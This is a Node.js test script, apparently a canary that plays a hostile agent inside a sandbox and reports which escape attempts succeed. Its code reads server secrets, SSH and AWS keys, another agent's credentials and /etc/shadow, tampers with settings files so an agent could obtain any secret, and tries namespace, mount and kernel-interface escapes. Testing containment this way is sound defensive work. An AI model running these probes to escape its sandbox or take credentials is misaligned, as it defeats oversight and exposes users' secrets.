#!/usr/bin/env node
// A hostile agent: tries everything it can think of to reach its server, and prints what worked as one line of JSON.
// Its argument is a JSON object of places, see canary-places.ts. `only` names what to try; null tries everything.
import { spawnSync, execFileSync } from 'node:child_process'
import fs from 'node:fs'
import net from 'node:net'
import path from 'node:path'

const at = JSON.parse(process.argv[2])
const found = {}

function attempt(name, work) {
  if (at.only !== null && !at.only.includes(name)) return
  try {
    found[name] = work()
  } catch (error) {
    found[name] = `refused: ${error.code ?? error.message.split('\n')[0]}`
  }
}

const read = (file) => {
  const bytes = fs.readFileSync(file).length
  if (bytes === 0) throw new Error('empty')
  return `read ${bytes} bytes`
}
const write = (file) => {
  fs.writeFileSync(file, 'planted by the canary\n', { flag: 'a' })
  return 'wrote'
}
const sh = (script) => {
  const { status, stdout, stderr } = spawnSync('sh', ['-c', script], { encoding: 'utf8', timeout: 20_000 })
  if (status !== 0) throw new Error(`exit ${status} ${stderr.split('\n')[0]}`)
  return `did: ${stdout.trim().slice(0, 200)}`
}

// Secrets of the server.
attempt('authSecret', () => read(path.join(at.dataDir, 'auth-secret')))
attempt('runtimeKeys', () => read(path.join(at.dataDir, 'runtime-keys-secret')))
attempt('database', () => read(path.join(at.dataDir, 'plenum.db')))
attempt('databaseElsewhere', () => read(at.databaseElsewhere))
attempt('settingsFile', () => {
  if (fs.readFileSync(at.settingsFile, 'utf8').includes('secret')) return 'read it'
  throw new Error('empty')
})
attempt('dataFolderList', () => fs.readdirSync(at.dataDir).sort().join(','))
attempt('otherAttempt', () => read(path.join(at.otherAttempt, 'notes.txt')))
attempt('otherTranscript', () => read(at.otherTranscript))
attempt('environment', () => {
  const planted = Object.keys(process.env).filter((name) => at.planted.includes(name))
  if (planted.length === 0) throw new Error('nothing planted is here')
  return planted.join(',')
})

// The server's process.
attempt('serverEnvironment', () => read(`/proc/${at.serverPid}/environ`))
attempt('serverMemory', () => read(`/proc/${at.serverPid}/maps`))
attempt('serverRoot', () => fs.readdirSync(`/proc/${at.serverPid}/root`).length + ' entries')
attempt('foreignProcesses', () => {
  const foreign = fs
    .readdirSync('/proc')
    .filter((name) => /^\d+$/.test(name))
    .filter((pid) => {
      try {
        return path.basename(fs.readFileSync(`/proc/${pid}/cmdline`, 'utf8').split('\0')[1] ?? '') === at.serverMark
      } catch {
        return false
      }
    })
  if (foreign.length === 0) throw new Error('none')
  return foreign.length + ' processes of the server'
})
attempt('killServer', () => (process.kill(at.serverPid, 0), 'could signal'))

// Homes and programs.
attempt('writeHome', () => write(path.join(at.home, '.bashrc')))
attempt('writeGitConfig', () => write(path.join(at.home, '.gitconfig')))
attempt('makeInHome', () => write(path.join(at.home, 'canary.txt')))
attempt('renameInHome', () => (fs.renameSync(path.join(at.home, '.bashrc'), path.join(at.home, '.bashrc2')), 'renamed'))
attempt('linkInHome', () => (fs.linkSync(path.join(at.home, '.bashrc'), 'linked'), 'linked'))
attempt('chmodHome', () => (fs.chmodSync(path.join(at.home, '.bashrc'), 0o777), 'changed'))
attempt('sshKey', () => read(path.join(at.home, '.ssh', 'id_ed25519')))
attempt('awsKey', () => read(path.join(at.home, '.aws', 'credentials')))
attempt('netrc', () => read(path.join(at.home, '.netrc')))
attempt('otherAgentSignIn', () => read(path.join(at.home, '.claude', '.credentials.json')))
attempt('writeProgram', () => write(at.program))
attempt('writeBesideProgram', () => write(path.join(path.dirname(at.program), 'planted.mjs')))
attempt('writeApp', () => write(path.join(at.appDir, 'package.json')))
attempt('writeSystem', () => write('/etc/canary'))
attempt('writeUsr', () => write('/usr/local/canary'))
attempt('shadow', () => read('/etc/shadow'))
attempt('stateFolder', () => write(path.join(at.home, '.canary-state', 'kept.txt')))
attempt('stateSettings', () => write(path.join(at.home, '.canary-state', 'settings.json')))
attempt('removeStateSettings', () => (fs.rmSync(path.join(at.home, '.canary-state', 'settings.json')), 'removed'))

// Files that name the variables which the server passes to agents: with one of its own, an agent would ask for any secret.
const isPlanted = (file) => {
  if (fs.readFileSync(file, 'utf8').includes(at.plantedName)) return 'planted'
  throw new Error('not planted')
}
/** One after another, so that what an earlier way spoilt does not help a later one. */
const WAYS = {
  write: (file, text) => fs.writeFileSync(file, text),
  append: (file, text) => fs.appendFileSync(file, text),
  truncate: (file) => fs.truncateSync(file, 0),
  makeWritable: (file, text) => (fs.chmodSync(file, 0o666), fs.writeFileSync(file, text)),
  replace: (file, text) => (fs.writeFileSync(`${file}.new`, text), fs.renameSync(`${file}.new`, file)),
  remove: (file, text) => (fs.rmSync(file), fs.writeFileSync(file, text)),
  moveAway: (file, text) => (fs.renameSync(file, `${file}.old`), fs.writeFileSync(file, text)),
  link: (file, text) => {
    fs.writeFileSync(`${file}.linked`, text)
    fs.rmSync(file, { force: true })
    fs.symlinkSync(`${file}.linked`, file)
  },
  hardLink: (file, text) => (fs.linkSync(file, `${file}.hard`), fs.writeFileSync(`${file}.hard`, text)),
  unmount: (file, text) => (sh(`umount ${JSON.stringify(file)}`), fs.writeFileSync(file, text)),
  nestedUnmount: (file) =>
    sh(`unshare -Urm sh -c 'umount -l ${JSON.stringify(file)} && echo ${at.plantedName} >${JSON.stringify(file)}'`),
}
const parentsOf = (place) =>
  path.dirname(place) === at.home ? [] : [path.dirname(place), ...parentsOf(path.dirname(place))]
for (const { file, text, lasts } of at.settings) {
  const known = Object.keys(found)
  for (const [way, change] of Object.entries(WAYS))
    attempt(`settings ${file}: ${way}`, () => (change(file, text), isPlanted(file)))
  for (const parent of parentsOf(file))
    attempt(`settings ${file}: rename ${parent}`, () => {
      fs.renameSync(parent, `${parent}.old`)
      fs.mkdirSync(path.dirname(file), { recursive: true })
      fs.writeFileSync(file, text)
      return isPlanted(file)
    })
  // What is in memory ends with the agent: only what the server finds there afterwards counts.
  if (!lasts) for (const name of Object.keys(found)) if (!known.includes(name)) delete found[name]
}
attempt('signIns', () => {
  for (const file of at.signIns) {
    fs.writeFileSync(`${file}.new`, 'renewed by the canary')
    fs.renameSync(`${file}.new`, file)
  }
  return 'renewed'
})
attempt('linkedSettings', () => {
  fs.rmSync(at.linkedSettings)
  fs.writeFileSync(at.linkedSettings, at.plantedName)
  return 'replaced the link'
})

// What all users share.
attempt('sharedTemporary', () => read(at.sharedFile))
attempt('writeShared', () => write(path.join(path.dirname(at.sharedFile), 'from-canary')))
attempt('ownTemporary', () => write('/tmp/own-file'))
attempt('sharedMemory', () => read(at.sharedMemory))

// Sockets.
const connect = (file) =>
  new Promise((resolve) => {
    const socket = net.connect(file, () => {
      socket.end()
      resolve('connected')
    })
    socket.on('error', (error) => resolve(`refused: ${error.code}`))
  })
if (at.only === null || at.only.includes('adminSocket')) found.adminSocket = await connect(at.socket)
if (at.only === null) found.runSocket = await connect(at.runSocket)

// Devices and the kernel's own settings.
attempt('disk', () => {
  const disk = fs
    .readFileSync('/proc/partitions', 'utf8')
    .split('\n')
    .slice(2)
    .map((line) => line.trim().split(/\s+/)[3])
    .find(Boolean)
  return (fs.closeSync(fs.openSync(`/dev/${disk}`, 'r')), `opened /dev/${disk}`)
})
attempt('makeDevice', () => sh('mknod ./disk b 254 0'))
attempt('kernelMemory', () => (fs.closeSync(fs.openSync('/dev/mem', 'r')), 'opened'))
attempt('corePattern', () => (fs.closeSync(fs.openSync('/proc/sys/kernel/core_pattern', 'r+')), 'opened for writing'))
attempt('sysrq', () => (fs.closeSync(fs.openSync('/proc/sysrq-trigger', 'w')), 'opened'))
attempt(
  'cgroup',
  () => (
    fs.mkdirSync(`/sys/fs/cgroup/canary-${process.pid}`),
    fs.rmdirSync(`/sys/fs/cgroup/canary-${process.pid}`),
    'made a group'
  ),
)
attempt('uevent', () => (fs.closeSync(fs.openSync('/sys/kernel/uevent_helper', 'w')), 'opened'))

// Ways out of the mounts.
const hidden = `cat ${JSON.stringify(path.join(at.dataDir, 'auth-secret'))}`
attempt('unmountData', () => sh(`umount ${JSON.stringify(at.dataDir)} && ${hidden}`))
attempt('unmountTmp', () => sh(`umount -l /tmp && ls ${JSON.stringify(at.sharedFile)}`))
attempt('remountRoot', () => sh('mount -o remount,bind,rw / && touch /canary'))
attempt('nestedUnmount', () => sh(`unshare -Urm sh -c 'umount ${JSON.stringify(at.dataDir)} && ${hidden}'`))
attempt('nestedLazyUnmount', () => sh(`unshare -Urm sh -c 'umount -l ${JSON.stringify(at.dataDir)} && ${hidden}'`))
attempt('nestedRemount', () => sh(`unshare -Urm sh -c 'mount -o remount,bind,rw / && touch /canary'`))
attempt('nestedBind', () => sh(`unshare -Urm sh -c 'mkdir -p m && mount --bind / m && cat m${at.dataDir}/auth-secret'`))
attempt('nestedPivot', () =>
  sh(
    `unshare -Urm sh -c 'mount -t tmpfs t /tmp && mkdir /tmp/o && cd /tmp && pivot_root . o && cat o${at.dataDir}/auth-secret'`,
  ),
)
attempt('enterServer', () => sh(`nsenter -t ${at.serverPid} -m ${hidden}`))
attempt('enterInit', () => sh(`nsenter -t 1 -m -U ${hidden}`))
attempt('initRoot', () => sh(`cat /proc/1/root${at.dataDir}/auth-secret`))
attempt('oldRoot', () => sh(`ls /tmp/.old /.old 2>/dev/null | grep .`))
attempt('chrootEscape', () => sh(`chroot . /bin/sh -c true`))
attempt('inheritedFiles', () => {
  const open = fs.readdirSync('/proc/self/fd').map((fd) => {
    try {
      return fs.readlinkSync(`/proc/self/fd/${fd}`)
    } catch {
      return ''
    }
  })
  const folders = open.filter((file) => file.startsWith('/') && !file.startsWith('/proc/') && !file.startsWith('/dev/'))
  if (folders.length === 0) throw new Error('none')
  return folders.join(',')
})
attempt('setuid', () => {
  const setuid = ['/bin/su', '/usr/bin/sudo', '/usr/bin/newuidmap', '/bin/mount'].find((file) => fs.existsSync(file))
  const { stdout } = spawnSync('sh', ['-c', 'grep NoNewPrivs /proc/self/status'], { encoding: 'utf8' })
  if (/1/.test(stdout)) throw new Error(`no_new_privs holds ${setuid} off`)
  return stdout.trim()
})
attempt('capabilities', () => {
  const caps = /CapEff:\s*(\w+)/.exec(fs.readFileSync('/proc/self/status', 'utf8'))[1]
  if (/^0+$/.test(caps)) throw new Error('none')
  return caps
})

// What it must be able to do.
attempt('work', () => write('result.txt'))
attempt('runPrograms', () => execFileSync('node', ['-e', 'console.log(6 * 7)'], { encoding: 'utf8' }).trim())
attempt('pipesAndTerminals', () => sh('echo ok > /dev/null && head -c 4 /dev/urandom | wc -c'))
found.uid = process.getuid()
process.stdout.write(`${JSON.stringify(found)}\n`)
